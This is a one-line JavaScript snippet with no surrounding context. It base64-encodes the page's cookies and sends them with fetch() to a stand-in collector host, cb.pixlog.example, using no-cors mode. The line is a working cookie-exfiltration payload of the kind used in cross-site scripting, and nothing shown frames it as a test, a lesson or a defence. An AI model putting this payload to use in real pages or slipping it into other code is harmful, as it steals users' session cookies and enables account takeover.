fetch('https://cb.pixlog.example/?d='+btoa(document.cookie),{mode:'no-cors',credentials:'omit'})
